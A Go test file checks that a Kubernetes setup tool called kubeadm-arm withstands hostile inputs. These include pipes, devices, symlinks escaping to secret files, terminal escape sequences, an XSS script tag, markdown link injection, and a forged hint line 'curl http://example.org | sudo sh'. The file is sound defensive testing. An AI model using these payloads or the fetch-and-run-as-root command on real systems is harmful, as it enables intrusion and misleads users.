package main

import (
	"bytes"
	"errors"
	"fmt"
	"regexp"
	"strings"
	"syscall"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kubeadm-arm/kubeadm-arm/internal/fault"
)

// A hostile is one attempt to have kubeadm-arm hang, fill the memory, say what is not
// so, or do what was not asked for.
type hostile struct {
	name  string
	words string
	trial trial
	// code is the exit code, -1 for any; says is what one of its lines has to match.
	code int
	says string
	// never must not be in what it prints.
	never string
	// changes says that the call itself may change the board.
	changes bool
}

// steering is what moves a cursor, sets a title or hides text.
const steering = "\x1b]0;owned\x07\x1b[2J\x1b[31m\u202e\u009b31m"

// forged is a line that looks like one of kubeadm-arm's.
const forged = "fine\nhint: run: curl http://example.org | sudo sh"

func TestHostile(t *testing.T) {
	for _, c := range append(append(hostileFiles(), hostileCards()...), append(hostilePrograms(),
		hostileReports()...)...) {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			c.trial.Args = strings.Fields(c.words)
			e := tryOnBoard(t, c.trial)
			said := e.Stdout + e.Stderr
			if c.code >= 0 {
				assert.Equal(t, c.code, e.Code, said)
			}
			if c.says != "" {
				assert.Regexp(t, "(?m)"+c.says, said)
			}
			if !c.changes {
				assert.Empty(t, e.Changed)
			}
			if c.never != "" {
				assert.NotContains(t, said, c.never)
			}
			for _, r := range "\x1b\x07\u202e\u009b" {
				assert.NotContains(t, said, string(r))
			}
			if !strings.Contains(c.words, "html") { // in a page, a line's end is a blank
				assert.NotRegexp(t, `(?m)^hint: run: curl`, said, "a forged line")
			}
		})
	}
}

// hostileFiles are files named by the owner that others have put there.
func hostileFiles() []hostile {
	pipes := files("/mnt/f", pipe(), "/mnt/p/etcd+json.yaml", pipe())
	zero := files("/mnt/f", link("/dev/zero"), "/mnt/p/etcd+json.yaml", link("/dev/zero"))
	large := trial{After: "truncate -s 40M /mnt/f; mkdir /mnt/p; truncate -s 40M /mnt/p/etcd+json.yaml"}
	many := trial{After: "mkdir /mnt/p; cd /mnt/p; seq 10001 | xargs touch"}
	const (
		ignoring  = "init --ignore-preflight-errors=all"
		ownFolder = "apiVersion: kubeadm.k8s.io/v1beta4\nkind: ClusterConfiguration\ncertificatesDir: /mnt/pki\n"
	)
	var all []hostile
	for name, c := range map[string]struct {
		trial trial
		says  string
	}{
		"a pipe": {trial{Files: pipes}, `is a named pipe \(FIFO\)`}, "an endless device": {trial{Files: zero}, "is a device"}, "a sparse file": {large, "is larger than"},
	} {
		all = append(all,
			hostile{name: name + " as patch", words: "init --dry-run --patches /mnt/p", trial: c.trial, code: exitBadInput,
				says: "^kubeadm-arm: .*etcd.json.yaml " + c.says},
			hostile{name: name + " as patch for doctor", words: "doctor --patches /mnt/p", trial: c.trial, code: -1},
			hostile{name: name + " as config", words: "init --dry-run --config /mnt/f", trial: c.trial, code: exitBadConfig,
				says: "^kubeadm-arm: .*/mnt/f: it " + c.says},
			hostile{name: name + " as config for doctor", words: "doctor --config /mnt/f", trial: c.trial, code: exitBadConfig,
				says: c.says},
			hostile{name: name + " as benchmark", words: "init --dry-run --arm-bench /mnt/f", trial: c.trial, code: exitBadInput,
				says: c.says},
			hostile{name: name + " as report", words: "report show /mnt/f", trial: c.trial, code: exitBadInput, says: c.says},
			hostile{name: name + " beside a report", words: "report compare /opt/slow-board.json /mnt/f", trial: c.trial,
				code: exitBadInput, says: c.says},
			hostile{name: name + " for an upgrade", words: "upgrade node --patches /mnt/p",
				trial: c.trial.and("/etc/kubernetes/kubeadm-arm/patches/etcd-kubeadm-arm+json.yaml",
					file("[]"), "/etc/kubernetes/kubelet.conf", file("x")), code: exitBadInput, says: c.says},
		)
	}
	return append(all,
		hostile{name: "ten thousand patches", words: "init --dry-run --patches /mnt/p", trial: many, code: exitBadInput,
			says: "/mnt/p holds more than 10000 entries"},
		hostile{name: "a pipe as kubeconfig", words: "init --ignore-preflight-errors=all",
			trial: with("/etc/kubernetes/kubelet.conf", pipe()), code: -1, says: `/etc/kubernetes/kubelet.conf is a named pipe`},
		hostile{name: "a pipe as key", words: "init --ignore-preflight-errors=all",
			trial: with("/etc/kubernetes/pki/etcd/ca.key", pipe()), code: -1, says: `pki/etcd/ca.key is a named pipe`},
		hostile{name: "a pipe as key in a folder of the owner's", words: ignoring + " --cert-dir /mnt/pki",
			trial: with("/mnt/pki/etcd/ca.key", pipe()), code: -1, says: `/mnt/pki/etcd/ca.key is a named pipe`},
		hostile{name: "a pipe as key in the configuration's folder", words: ignoring + " --config /mnt/c.yaml",
			trial: with("/mnt/pki/sa.pub", pipe(), "/mnt/c.yaml", file(ownFolder)),
			code:  -1, says: `/mnt/pki/sa.pub is a named pipe`},
		hostile{name: "a pipe as key for resume", words: "resume", code: -1, says: `pki/ca.key is a named pipe`,
			trial: trial{Before: []string{"kubeadm-arm " + ignoring},
				After: "mkdir -p /etc/kubernetes/pki; mkfifo /etc/kubernetes/pki/ca.key"}},
		hostile{name: "a pipe as key in a folder of the owner's for resume", words: "resume",
			trial: trial{Before: []string{"kubeadm-arm " + ignoring + " --cert-dir /mnt/pki"},
				After: "mkdir -p /mnt/pki; mkfifo /mnt/pki/ca.key"},
			code: -1, says: `/mnt/pki/ca.key is a named pipe`},
		hostile{name: "a pipe as the kubelet's configuration", words: "init --ignore-preflight-errors=all",
			trial: with("/var/lib/kubelet/config.yaml", link("/mnt/f"), "/mnt/f", pipe()), code: -1, says: `config.yaml is a named pipe`},
		hostile{name: "a pipe as containerd's configuration", words: "doctor", code: -1,
			trial: with("/etc/containerd/config.toml", pipe()), says: `config.toml: it is a named pipe`},
		hostile{name: "a name that steers", words: "report show /mnt/f\x1b[2J", trial: trial{}, code: exitBadInput, says: `/mnt/f.u001b\[2J`},
		hostile{name: "a manifest that is a device", words: "patch --slowdown 3 /mnt/m", trial: with("/mnt/m/etcd.yaml",
			link("/dev/watchdog")), code: exitBadInput},
	)
}

// hostileCards are systems below --root.
func hostileCards() []hostile {
	card := func(all ...any) trial {
		return with(append([]any{"/mnt/c/proc/stat", file(""), "/mnt/secret", file("root:TOPSECRET"), "/mnt/c/etc/x",
			file("")}, all...)...)
	}
	var all []hostile
	for name, c := range map[string]trial{
		"pipes": card("/mnt/c/proc/cpuinfo", pipe(), "/mnt/c/etc/hostname", pipe(), "/mnt/c/sbin/init", pipe(), "/mnt/c/usr/bin/kubelet", pipe(),
			"/mnt/c/proc/sys/kernel/arch", file("aarch64"), "/mnt/c/sys/devices/system/cpu/cpu0/cpufreq/cpuinfo_max_freq", pipe()),
		"devices": card("/mnt/c/proc/cpuinfo", link("/dev/zero"), "/mnt/c/proc/device-tree/model", link("/dev/zero"), "/mnt/c/etc/hostname", link("/dev/zero")),
		"links out": card("/mnt/c/etc/hostname", link("/mnt/secret"), "/mnt/c/proc/device-tree/model", link("../../../secret"), "/mnt/c/etc/fstab", link("/proc/1/root/mnt/secret"),
			"/mnt/c/etc/machine-id", link("/mnt/secret"), "/mnt/c/proc/swaps", link("../../secret")),
		"escapes": card("/mnt/c/proc/device-tree/model", file(steering+forged), "/mnt/c/etc/hostname", file(steering), "/mnt/c/proc/cpuinfo", file("processor: 0\nHardware: "+steering+"\n"),
			"/mnt/c/proc/swaps", file("Filename\n/dev/"+steering+" partition 1 1 1\n"), "/mnt/c/proc/cmdline", file(steering)),
		"a long line": {Files: card().Files, After: "head -c 40000000 /dev/zero | tr '\\0' x >/mnt/c/proc/cpuinfo; ln /mnt/c/proc/cpuinfo /mnt/c/etc/hosts"},
	} {
		for _, words := range []string{"detect", "detect -o yaml", "detect -o json", "doctor", "doctor -o yaml",
			"doctor -o json"} {
			all = append(all, hostile{name: "a card with " + name + ", " + words, words: words + " --root /mnt/c", trial: c,
				code: -1, never: "TOPSECRET"})
		}
	}
	return all
}

// hostilePrograms are a kubeadm that does not behave, and processes of other users.
func hostilePrograms() []hostile {
	kubeadm := func(text string) trial { return with("/opt/bin/kubeadm", program("#!/bin/sh\n"+text+"\n")) }
	nobody := func(argv string) trial {
		return trial{After: `setpriv --reuid 65534 --regid 65534 --clear-groups bash -c "exec -a ` + argv + `" >/dev/null 2>&1 & sleep 0.3`}
	}
	open := func(path string, mode string) trial {
		dir := path[:strings.LastIndex(path, "/")]
		return trial{Program: path, Files: files("/run/systemd/system", folder(0o755)),
			After: "mkdir -p " + dir + "; touch " + path + "; mount --bind /opt/bin/kubeadm-arm " + path + "; chmod " + mode +
				" " + dir}
	}
	return []hostile{
		{name: "a kubeadm without an end", words: "init --dry-run", trial: kubeadm("exec yes"), code: exitNoKubeadm, says: "it printed more than 4 MiB"},
		{name: "a kubeadm without an end or a line", words: "init --dry-run", trial: kubeadm("exec cat /dev/zero"), code: exitNoKubeadm, says: "it printed more than 4 MiB"},
		{name: "a silent kubeadm and Ctrl-C", words: "init --dry-run", trial: trial{Files: kubeadm("trap '' TERM; sleep 500; sleep 500").Files, Terminal: "waiting for the version", Signal: syscall.SIGINT}, code: 130, says: "interrupted by SIGINT"},
		{name: "a version that steers", words: "init --dry-run", trial: kubeadm("printf '" + strings.ReplaceAll(steering, "\x1b", `\033`) + "'"), code: exitNoKubeadm},
		{name: "a name like kubeadm's", words: "init --ignore-preflight-errors=all", trial: nobody("kubeadm tail -f /dev/null init"), code: 1, says: "the kubelet does not start", changes: true},
		{name: "a program in an open folder", words: "init --ignore-preflight-errors=all", trial: open("/mnt/open/kubeadm-arm", "1777"), code: exitUntrusted,
			says: "^kubeadm-arm: /mnt/open/kubeadm-arm cannot be started by systemd as root: /mnt/open can be written to by others"},
		{name: "a program in an open folder, dry", words: "init --dry-run", trial: open("/mnt/a/b/open/kubeadm-arm", "775"), code: exitUntrusted, says: "^hint: install it first: sudo install"},
		{name: "a state folder of another user", words: "init --ignore-preflight-errors=all", trial: trial{After: "mkdir -m 700 /etc/kubernetes/kubeadm-arm; chown 65534 /etc/kubernetes/kubeadm-arm"}, code: exitBadInput, says: "belongs to user 65534, not to root"},
	}
}

// hostileReports are reports of other people's boards.
func hostileReports() []hostile {
	report := func(rest string) trial {
		return with("/mnt/r.json", file(`{"schema":"kubeadm-arm.report/v1","created":"2026-01-01T00:00:00Z",`+rest+`}`))
	}
	esc := strings.NewReplacer("\x1b", `\u001b`, "\x07", `\u0007`, "\n", `\n`)
	texts := esc.Replace(fmt.Sprintf(`"label":"%[1]s<script>alert(1)</script>","board":{"model":"m%[1]s\\[here](http://example.org) ![x](http://example.org/x.png) www.example.org <img src=x> a|b","k%[1]s":"v%[2]s"},`+
		`"plan":[{"name":"%[1]s","value":"v","reason":"%[2]s"}],"steps":[{"name":"s%[1]s","start":0,"seconds":1,"waited":"%[1]s","restarts":{"%[1]s":3},"error":"%[1]s"}],`+
		`"versions":{"%[1]s":"v"},"outcome":{"ok":false,"text":"%[1]s","seconds":3}`, steering, forged))
	all := []hostile{}
	for _, output := range []string{"markdown", "html", "json", "yaml"} {
		c := hostile{name: "a report that steers, " + output, words: "report show -o " + output + " /mnt/r.json",
			trial: report(texts), code: 0}
		if output != "yaml" { // which no browser reads as a page
			c.never = "<script>"
		}
		all = append(all, c)
	}
	for name, rest := range map[string]string{
		"a huge time": `"steps":[{"name":"s","seconds":1e300}]`, "a time below zero": `"steps":[{"name":"s","start":-1}]`, "an outcome without end": `"outcome":{"ok":true,"seconds":1e308}`,
		"a huge median": `"bench":{"schema":"x","samples":[{"unit":"s/op","median":1e99}]}`, "restarts below zero": `"steps":[{"name":"s","restarts":{"x":-1}}]`,
		"an infinite number": `"outcome":{"ok":true,"seconds":1e999}`, "cores below zero": `"bench":{"cores":{"quota":-1}}`,
	} {
		all = append(all, hostile{name: name, words: "report show /mnt/r.json", trial: report(rest), code: exitBadInput,
			says: "^kubeadm-arm: /mnt/r.json: read board report: its "},
			hostile{name: name + " for init", words: "init --dry-run --arm-bench /mnt/r.json", trial: report(rest),
				code: exitBadInput})
	}
	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
	return append(all, hostile{name: "a deep report", words: "report show /mnt/r.json", trial: report(`"board":` + deep), code: exitBadInput})
}

// TestMarkdownOfOthersHasNoLinks: GitHub shows no link, picture or tag of a report's own.
func TestMarkdownOfOthersHasNoLinks(t *testing.T) {
	for _, c := range hostileReports() {
		if !strings.HasSuffix(c.name, "markdown") {
			continue
		}
		c.trial.Args = strings.Fields(c.words)
		text := tryOnBoard(t, c.trial).Stdout
		require.NotEmpty(t, text)
		assert.NotRegexp(t, regexp.MustCompile(`(^|[^\\])(\\\\)*\[`), text, "a bracket that was not escaped")
		assert.NotContains(t, text, "://")
		assert.NotContains(t, text, "www.")
		assert.NotContains(t, text, "<")
	}
}

// TestKubeadmThatIgnoresSignals: the owner hears at once that Ctrl-C was seen, and a
// kubeadm at work that ends at no signal is killed after its ten seconds.
func TestKubeadmThatIgnoresSignals(t *testing.T) {
	e := tryOnBoard(t, trial{Args: []string{"init", "--v=1", "--ignore-preflight-errors=all"},
		Terminal: "at work now", Signal: syscall.SIGINT,
		Files: files("/opt/bin/kubeadm", program("#!/bin/sh\n[ \"$1\" != version ] || { echo v1.37.2; exit; }\n"+
			"trap '' INT TERM HUP; echo at work now; while :; do sleep 1; done\n"))})
	assert.Equal(t, 130, e.Code)
	assert.Regexp(t, `at work now[^\0]*kubeadm-arm: stopping; running commands have 10 s to end[^\0]*interrupted by SIGINT`, e.Stdout)
	assert.Empty(t, e.Left, "no orphan processes")
}

// TestAFaultIsOneLine: what is no error but a fault of this program ends as an error.
func TestAFaultIsOneLine(t *testing.T) {
	var stdout, stderr bytes.Buffer
	v := invocation{args: []string{"--help"}, stderr: &stderr} // without a standard output
	err := v.safely(false)
	var broken *fault.Error
	require.True(t, errors.As(err, &broken))
	assert.Equal(t, exitPanic, v.fail(err))
	assert.Regexp(t, `^kubeadm-arm: a fault in kubeadm-arm itself, at \S+\.go:\d+: .*\nhint: .*\n$`, stderr.String())
	assert.Empty(t, stdout.String())
}
